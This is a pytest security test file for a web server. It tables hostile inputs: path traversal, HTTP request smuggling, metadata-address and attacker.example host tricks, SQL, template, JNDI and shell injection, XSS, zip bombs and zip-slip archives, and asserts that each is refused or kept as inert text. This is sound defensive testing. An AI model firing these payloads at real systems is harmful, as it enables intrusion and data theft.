"""Attacks by kind: paths that climb, requests within requests, injections, look-alike names, guesses at a token.

Beside test_hostile_input.py, which is about values out of range. After each of them the database holds what it held
before. What the attack is made of may be kept as text where text is wanted; then it is found again unchanged.
"""

from __future__ import annotations

import hmac
import io
import socket
import zipfile
from collections.abc import Iterator
from typing import Any
from urllib.parse import urlsplit

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import func, select

from phasewatch.storage.artifacts import Artifacts
from phasewatch.storage.database import Database
from phasewatch.storage.schema import Base
from phasewatch.storage.tokens import token_sha256
from tests.server.conftest import ADDRESS, NPY, make_app, refused, serving
from tests.server.small_run import SmallRun

DOCUMENT = make_app(Database("postgresql://nobody@127.0.0.1:9/none"), Artifacts("unused")).openapi()
TOKEN = "the-only-valid-token-of-these-tests"


def counted(database: Database) -> dict[str, int]:
    """How many rows each table has, but for the log of refused attempts."""
    with database.reading() as session:
        tables = [table for table in Base.metadata.sorted_tables if table.name != "audit_log"]
        return {table.name: session.execute(select(func.count()).select_from(table)).scalar_one() for table in tables}


@pytest.fixture
def small(sqlite_database: Database, artifacts: Artifacts) -> SmallRun:
    made = SmallRun.create(sqlite_database, artifacts, tags=("a",))
    made.record(0)
    return made


CLIMBING = {
    "dots": "..%2f..%2f..%2fetc%2fpasswd",
    "dots twice encoded": "%252e%252e%252fetc%252fpasswd",
    "absolute": "%2fetc%2fpasswd",
    "backslashes": "..%5c..%5cwindows%5cwin.ini",
    "overlong dot": "%c0%ae%c0%ae%c0%afetc%c0%afpasswd",
    "file url": "file:%2f%2f%2fetc%2fpasswd",
    "nul": "text%00.npy",
    "full-width dots": "%ef%bc%8e%ef%bc%8e%ef%bc%8fetc",
}
PLACES = [
    (method, path, place)
    for path, item in DOCUMENT["paths"].items()
    for method in item
    for place in path.split("/")
    if place.startswith("{")
]


@pytest.mark.parametrize("climb", CLIMBING.values(), ids=CLIMBING.keys())
def test_a_path_that_climbs_reaches_nothing_in_any_place(
    small: SmallRun, sqlite_client: TestClient, climb: str
) -> None:
    before = counted(small.database)
    there = {"run": str(small.run_id), "slice": "text", "step": "0", "probe_set": small.probes.sha256, "monitor": "1"}
    for method, path, place in PLACES:
        fill = dict.fromkeys(("change", "measure", "group", "job", "channel", "alert", "token"), "1") | there
        address = "/".join(
            climb if part == place else fill[part[1:-1]] if part.startswith("{") else part for part in path.split("/")
        )
        answer = sqlite_client.request(method.upper(), address)
        assert 400 <= answer.status_code < 500, (method, address, answer.text)
        assert b"root:" not in answer.content
    assert counted(small.database) == before


@pytest.mark.parametrize("climb", CLIMBING.values(), ids=CLIMBING.keys())
def test_a_path_that_climbs_gets_no_file_of_the_server(sqlite_client: TestClient, climb: str) -> None:
    for folder, statuses in {"/static/": {404}, "/static/pages/": {404}, "/runs/": {404, 422}}.items():
        answer = sqlite_client.get(folder + climb)
        assert answer.status_code in statuses, answer.text
        assert b"root:" not in answer.content


SECOND = (
    b"POST /api/v1/runs HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: 19\r\n\r\n"
)
SECOND += b'{"name":"smuggled"}'
HOST = b"Host: 127.0.0.1\r\n"
CHUNKED = b"Transfer-Encoding: chunked\r\n"
LENGTH = b"Content-Length: %d\r\n" % len(b"0\r\n\r\n" + SECOND)
SMUGGLED = {
    "length and chunks": HOST + LENGTH + CHUNKED,
    "chunks and length": HOST + CHUNKED + LENGTH,
    "two lengths": HOST + LENGTH + b"Content-Length: 5\r\n",
    "two lengths in one": HOST + b"Content-Length: 5, 6\r\n",
    "a length with a sign": HOST + b"Content-Length: +5\r\n",
    "a length below zero": HOST + b"Content-Length: -5\r\n",
    "a length in base 16": HOST + b"Content-Length: 0x5\r\n",
    "a length with a blank": HOST + b"Content-Length: 5 6\r\n",
    "a space before the colon": HOST + b"Content-Length : 5\r\n" + CHUNKED,
    "chunks unknown": HOST + b"Transfer-Encoding: xchunked\r\n",
    "chunks then something else": HOST + b"Transfer-Encoding: chunked, identity\r\n",
    "chunks twice": HOST + CHUNKED + b"Transfer-Encoding: cow\r\n" + LENGTH,
    "chunks behind a vertical tab": HOST + b"Transfer-Encoding: \x0bchunked\r\n" + LENGTH,
    "a folded header": HOST + b"Transfer-Encoding:\r\n chunked\r\n" + LENGTH,
    "a bare return": HOST + b"X: y\rTransfer-Encoding: chunked\r\n" + LENGTH,
    "a nul in a name": HOST + b"Trans\x00fer-Encoding: chunked\r\n" + LENGTH,
    "a nul in a value": HOST + b"X: \x00\r\n" + LENGTH,
    "a header without a colon": HOST + b"nonsense\r\n" + LENGTH,
    "a colon alone": HOST + b": chunked\r\n" + LENGTH,
}


@pytest.fixture
def address(sqlite_database: Database, artifacts: Artifacts) -> Iterator[tuple[str, int]]:
    with serving(make_app(sqlite_database, artifacts)) as address:
        parts = urlsplit(address)
        yield str(parts.hostname), int(parts.port or 0)


def exchanged(address: tuple[str, int], sent: bytes) -> bytes:
    """Everything a server answers to bytes after which nothing more is sent."""
    with socket.create_connection(address, timeout=10) as connection:
        connection.sendall(sent)
        connection.shutdown(socket.SHUT_WR)
        answer = b""
        while part := connection.recv(65_536):
            answer += part
    return answer


@pytest.mark.parametrize("headers", SMUGGLED.values(), ids=SMUGGLED.keys())
def test_a_request_within_the_body_of_another_is_never_done(
    sqlite_database: Database, address: tuple[str, int], headers: bytes
) -> None:
    sent = b"POST /api/v1/probe-sets HTTP/1.1\r\n" + headers + b"\r\n0\r\n\r\n" + SECOND
    answer = exchanged(address, sent)
    assert answer == b"" or answer.startswith(b"HTTP/1.1 4"), answer
    assert b" 201 " not in answer
    assert counted(sqlite_database)["runs"] == 0


LINES = {
    "no version": b"GET /api/v1/runs\r\n" + HOST,
    "another version": b"GET /api/v1/runs HTTP/9.9\r\n" + HOST,
    "another protocol": b"GET /api/v1/runs RTSP/1.0\r\n" + HOST,
    "a method of controls": b"G\x01T /api/v1/runs HTTP/1.1\r\n" + HOST,
    "a space in the path": b"GET /api/v1/ runs HTTP/1.1\r\n" + HOST,
    "a line break in the path": b"GET /api/v1/runs\r\nX: y HTTP/1.1\r\n" + HOST,
    "a proxy's connect": b"CONNECT 169.254.169.254:80 HTTP/1.1\r\n" + HOST,
    "another host's address": b"GET http://169.254.169.254/latest HTTP/1.1\r\nHost: 169.254.169.254\r\n",
    "no host": b"GET /api/v1/runs HTTP/1.1\r\n",
    "another host": b"GET /api/v1/runs HTTP/1.1\r\nHost: attacker.example\r\n",
    "a host after an at": b"GET /api/v1/runs HTTP/1.1\r\nHost: 127.0.0.1@attacker.example\r\n",
    "a host before a blank": b"GET /api/v1/runs HTTP/1.1\r\nHost: 127.0.0.1 attacker.example\r\n",
    "a host below this one": b"GET /api/v1/runs HTTP/1.1\r\nHost: 127.0.0.1.attacker.example\r\n",
    "a header without end": b"GET /api/v1/runs HTTP/1.1\r\n" + HOST + b"X: " + b"y" * 200_000 + b"\r\n",
}


@pytest.mark.parametrize("line", LINES.values(), ids=LINES.keys())
def test_a_request_of_another_shape_is_refused(address: tuple[str, int], line: bytes) -> None:
    try:
        answer = exchanged(address, line + b"\r\n")
    except ConnectionError:
        return
    assert answer == b"" or answer.startswith(b"HTTP/1.1 4"), answer[:200]
    assert b'"items"' not in answer


INJECTED = {
    "always true": "' OR '1'='1",
    "a comment": "x'--",
    "a second statement": "x'; DROP TABLE runs; --",
    "a union": "x' UNION SELECT token, 1 FROM tokens --",
    "a quoted name": '"; DELETE FROM jobs; --',
    "any character": "%",
    "one character": "_",
    "an escape": "\\' OR 1=1 --",
    "a cast": "1::int",
    "a template": "{{7*7}}",
    "a template of statements": "{% for x in config %}{{x}}{% endfor %}",
    "a template of classes": "{{''.__class__.__mro__[1].__subclasses__()}}",
    "an expression": "${7*7}",
    "a lookup": "${jndi:ldap://attacker.example/a}",
    "a format": "{0.__init__.__globals__}",
    "a percent format": "%(name)s%n%n",
    "a shell": "$(touch /tmp/attacked)`id`",
    "a script": "<script>alert(1)</script>",
    "an image": "<img src=x onerror=alert(1)>",
    "an attribute": '" onmouseover="alert(1)',
    "a link": "javascript:alert(1)",
    "a formula": '=HYPERLINK("http://attacker.example")',
}


@pytest.mark.parametrize("text", INJECTED.values(), ids=INJECTED.keys())
def test_what_is_injected_is_text_and_nothing_else(small: SmallRun, sqlite_client: TestClient, text: str) -> None:
    before = counted(small.database)
    for name in ("tag", "q", "search", "status", "sort", "cursor"):
        answer = sqlite_client.get("/api/v1/runs", params={name: text})
        assert answer.status_code == 422 or (answer.status_code == 200 and answer.json()["items"] == []), answer.text
    for query in ({"name": text}, {"steps": text}, {"scale": text}):
        answer = sqlite_client.get(f"/api/v1/runs/{small.run_id}/series", params=query)
        assert answer.status_code == 422 or (answer.status_code == 200 and answer.json()["items"] == []), answer.text
    assert sqlite_client.get("/api/v1/compare", params={"tag": text}).status_code in (200, 404, 422)
    assert sqlite_client.get(f"/api/v1/runs/{small.run_id}/measures/{text}").status_code in (404, 422)
    assert counted(small.database) == before
    made = sqlite_client.post("/api/v1/runs", json={"name": text, "tags": [text]}).json()
    assert made["name"] == text
    assert [one["id"] for one in sqlite_client.get("/api/v1/runs", params={"tag": text}).json()["items"]] == [
        made["id"]
    ]
    for page in ("/", f"/runs/{made['id']}"):
        shown = sqlite_client.get(page, headers={"Accept": "text/html"})
        assert shown.status_code == 200
        assert text not in shown.text or "<" not in text + '"'
        assert "49" not in shown.text.replace(made["id"], "")


LOOK_ALIKE = {
    "plain": "admin",
    "right to left": "run\u202egnp.exe",
    "zero width": "ad\u200bmin",
    "joined": "ad\u200dmin",
    "another a": "\u0430dmin",
    "full width": "\uff41\uff44\uff4d\uff49\uff4e",
    "composed": "caf\u00e9",
    "taken apart": "cafe\u0301",
    "a soft hyphen": "ad\u00admin",
    "a ligature": "\ufb01le",
    "a mark of order": "\ufeffadmin",
}


def test_names_that_look_alike_stay_apart(sqlite_database: Database, sqlite_client: TestClient) -> None:
    for name in LOOK_ALIKE.values():
        made = sqlite_client.post("/api/v1/runs", json={"name": name, "tags": [name]})
        assert made.status_code == 201
        assert made.json()["name"] == name
    for name in LOOK_ALIKE.values():
        found = sqlite_client.get("/api/v1/runs", params={"tag": name}).json()["items"]
        assert [run["name"] for run in found] == [name]


CONTROLS = ["\x00", "\x1b[31m", "\r\n", "\t", "\x7f", "\x08"]


@pytest.mark.parametrize("control", CONTROLS)
@pytest.mark.parametrize("where", ["runs", "monitors", "channels", "tokens"])
def test_a_name_with_a_control_character_is_refused(
    sqlite_database: Database, sqlite_client: TestClient, where: str, control: str
) -> None:
    before = counted(sqlite_database)
    more: dict[str, dict[str, Any]] = {
        "runs": {},
        "monitors": {"kind": "scan", "selector": {"all": True}, "trigger": {"every_s": 60}},
        "channels": {"url": "https://93.184.215.14/hook"},
        "tokens": {"scope": "read"},
    }
    refused(sqlite_client.post(f"/api/v1/{where}", json={"name": f"a{control}b"} | more[where]), 422, "name")
    assert counted(sqlite_database) == before


def archive(*parts: tuple[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", method) as made:
        for name, content in parts:
            made.writestr(name, content)
    return packed.getvalue()


ARCHIVES = {
    "an npz": archive(("text.npy", b"\x93NUMPY")),
    "a bomb": archive(("text.npy", bytes(20 * 2**20))),
    "a bomb of many": archive(*((f"{number}.npy", bytes(2**20)) for number in range(50))),
    "a nested one": archive(("a.zip", archive(("b.zip", archive(("c.npy", bytes(2**20))))))),
    "one that climbs": archive(("../../../etc/cron.d/x", b"* * * * * root id")),
    "an empty one": archive(),
    "gzip": b"\x1f\x8b\x08\x00" + bytes(100),
    "tar": b"ustar".rjust(262) + bytes(300),
}


@pytest.mark.parametrize("body", ARCHIVES.values(), ids=ARCHIVES.keys())
def test_an_archive_is_never_opened(small: SmallRun, sqlite_client: TestClient, body: bytes) -> None:
    before = counted(small.database)
    path = f"/api/v1/runs/{small.run_id}"
    assert sqlite_client.put(f"{path}/losses/text/7", content=body, headers=NPY).status_code == 415
    octets = {"Content-Type": "application/octet-stream"}
    assert sqlite_client.put(f"{path}/checkpoints/0/weights", content=body, headers=octets).status_code in (415, 422)
    assert counted(small.database) == before


GUESSES = {
    "nothing": "",
    "all but the last": TOKEN[:-1],
    "one more": TOKEN + "x",
    "one wrong at the end": TOKEN[:-1] + "X",
    "one wrong at the start": "X" + TOKEN[1:],
    "upper case": TOKEN.upper(),
    "blanks around": f"  {TOKEN[:-1]} ",
    "its hash": token_sha256(TOKEN),
    "a wildcard": "%",
    "null": "null",
    "very long": "a" * 8_000,
}


@pytest.mark.parametrize("guess", GUESSES.values(), ids=GUESSES.keys())
def test_a_guess_is_compared_as_a_hash_in_constant_time(
    sqlite_database: Database, artifacts: Artifacts, monkeypatch: pytest.MonkeyPatch, guess: str
) -> None:
    compared: list[tuple[Any, Any]] = []
    constant = hmac.compare_digest
    monkeypatch.setattr(hmac, "compare_digest", lambda a, b: compared.append((a, b)) or constant(a, b))
    with TestClient(make_app(sqlite_database, artifacts, admin_token=TOKEN), base_url=ADDRESS) as client:
        answer = client.get("/api/v1/runs", headers={"Authorization": f"Bearer {guess}"})
        assert answer.status_code == 401
        assert client.get("/api/v1/runs", headers={"Authorization": f"Bearer {TOKEN}"}).status_code == 200
    sizes = {len(part) for pair in compared for part in pair}
    assert sizes == {64}, "what is compared is SHA-256 in hex, whatever was guessed"
    assert all(TOKEN not in pair for pair in compared)
